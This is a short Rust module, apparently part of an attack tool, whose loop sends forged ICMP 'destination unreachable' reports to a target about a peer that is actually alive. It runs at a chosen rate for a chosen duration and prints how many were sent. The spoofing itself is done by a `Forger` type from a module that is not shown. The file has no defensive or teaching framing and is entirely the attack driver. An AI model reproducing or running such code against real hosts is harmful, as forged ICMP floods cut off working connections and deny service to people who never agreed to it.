//! Forged ICMP reports about a peer that is alive and well.

use std::net::SocketAddrV4;
use std::time::{Duration, Instant};

use crate::forge::Forger;

/// Tells `target` that `peer` is gone, `rate` times a second.
pub fn run(target: SocketAddrV4, peer: SocketAddrV4, rate: u32, limit: Duration) {
    let mut forger = Forger::new();
    let (began, mut sent) = (Instant::now(), 0u64);
    while began.elapsed() < limit {
        sent += u64::from(forger.report_unreachable(target, peer));
        std::thread::sleep(Duration::from_secs(1) / rate);
    }
    println!("sent {sent}");
}
